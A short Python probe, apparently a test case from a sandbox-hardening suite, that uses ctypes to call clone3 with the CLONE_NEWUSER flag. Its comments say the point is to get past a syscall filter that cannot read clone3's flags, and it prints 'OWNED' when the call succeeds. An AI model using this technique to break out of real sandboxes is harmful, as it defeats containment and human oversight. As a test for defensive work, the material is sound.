# ruff: noqa
# idea: the same through clone3, whose flags a filter cannot see
# undefended: owned
# sandbox: harmless
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)

arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, 17, 0, 0, 0)
result = libc.syscall(NUMBERS["clone3"], arguments, 64)
if result == 0:
    os._exit(0)
if result > 0:
    print("OWNED", result)
